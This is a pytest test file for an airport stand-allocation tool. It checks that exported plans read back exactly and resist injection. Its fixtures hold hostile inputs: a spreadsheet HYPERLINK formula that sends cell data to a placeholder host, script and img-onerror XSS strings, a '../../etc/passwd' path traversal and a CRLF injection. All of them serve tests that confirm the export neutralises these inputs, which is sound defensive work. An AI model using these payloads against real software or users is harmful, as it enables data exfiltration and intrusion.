"""A plan as files: whole, read back, harmless whatever the schedule holds."""

import csv
import io
import json
import re
from dataclasses import replace

import pytest

from standalloc.check import check
from standalloc.io import judgement_document, plan_rows, read_plan, write_plan
from standalloc.model import Plan
from standalloc.service.judging.exports import Export, export_plan, plan_csv
from tests.check.builder import Build
from tests.check.random_days import day_and_plan

FORMULA = '=HYPERLINK("http://example.org?"&A1,"open")'
SCRIPT = "<script>alert(1)</script>"


def exported(instance, plan, format) -> Export:
    return export_plan(instance, plan, check(instance, plan), format)


def read_back(export, instance, tmp_path) -> Plan:
    path = tmp_path / export.name
    path.write_bytes(export.content)
    return read_plan(path, instance)


@pytest.fixture
def hostile():
    """Return a day whose names are formulas, markup and control characters."""
    turns = [
        Build.turn(FORMULA, "08:00", "09:00", arrival_flight="+1", departure_flight="-2"),
        Build.turn("@SUM(1)", "08:30", "09:30", arrival_flight="\tcmd\x00\x07", registration="＝1"),  # noqa: RUF001
        Build.turn("T3", "08:30", "09:30", departure_flight=SCRIPT, airline='"><img src=x onerror=alert(1)>'),
    ]
    return Build.day([Build.stand("=S1"), Build.stand("S2")], turns)


@pytest.fixture
def parked(hostile):
    return Plan({hostile.visits[0].key: "=S1", hostile.visits[2].key: "S2"})


@pytest.mark.parametrize("format", ["json", "csv"])
@pytest.mark.parametrize("seed", range(5))
def test_a_plan_is_read_back(format, seed, tmp_path):
    instance, plan = day_and_plan(seed)
    back = read_back(exported(instance, plan, format), instance, tmp_path)
    assert dict(back.stands) == dict(plan.stands)
    assert back.reasons == check(instance, plan).reasons


@pytest.mark.parametrize("seed", range(5))
def test_the_csv_of_an_honest_day_is_plan_csv(seed, tmp_path):
    instance, plan = day_and_plan(seed)
    plan = Plan(plan.stands, check(instance, plan).reasons)
    write_plan(plan, instance, tmp_path / "plan.csv")
    assert exported(instance, plan, "csv").content == (tmp_path / "plan.csv").read_bytes()


def test_json_holds_the_judgement_and_the_plan():
    instance, plan = day_and_plan(1)
    judgement = check(instance, plan)
    document = json.loads(exported(instance, plan, "json").content)
    assert document.pop("plan") == plan_rows(Plan(plan.stands, judgement.reasons), instance)
    assert document == judgement_document(judgement, instance)


def test_json_is_read_back_whatever_things_are_called(hostile, parked, tmp_path):
    assert dict(read_back(exported(hostile, parked, "json"), hostile, tmp_path).stands) == dict(parked.stands)


def test_no_cell_of_a_csv_is_a_formula(hostile, parked):
    rows = list(csv.reader(io.StringIO(plan_csv(hostile, parked))))
    assert [row[0] for row in rows[1:]] == [f"'{FORMULA}", "'@SUM(1)", "T3"]
    assert rows[1][2] == "'=S1"
    assert not [cell for row in rows for cell in row if cell[:1] in {*"=+-@\t\r\n"}]


def test_the_plan_file_of_the_library_is_exact_all_the_same(hostile, parked, tmp_path):
    write_plan(parked, hostile, tmp_path / "plan.csv")
    assert dict(read_plan(tmp_path / "plan.csv", hostile).stands) == dict(parked.stands)


def test_html_runs_no_script_of_the_schedule(hostile, parked):
    page = exported(hostile, parked, "html").content.decode()
    assert SCRIPT not in page
    assert "<img" not in page
    assert len(re.findall("<script", page)) == 1


@pytest.mark.parametrize(
    ("code", "day", "name"),
    [
        ("JFK", "2013-07-11", "JFK-2013-07-11"),
        ("JFK", "", "JFK-2030-06-01"),
        ("../../etc", "passwd\r\nX: y", "etc-passwd_X_y"),
        ("東京", "日", "plan"),
    ],
)
def test_names_of_files_are_plain(code, day, name):
    instance = Build.day([Build.stand("S1")], [Build.turn("T1", "08:00", "09:00")])
    named = replace(instance, airport=instance.airport.model_copy(update={"code": code}), name=day)
    assert exported(named, Plan(), "csv").name == f"{name}.csv"


@pytest.mark.parametrize("format", ["json", "csv", "xlsx", "html"])
def test_an_empty_plan_of_an_empty_day(format):
    empty = Build.day([], [])
    assert exported(empty, Plan(), format).content
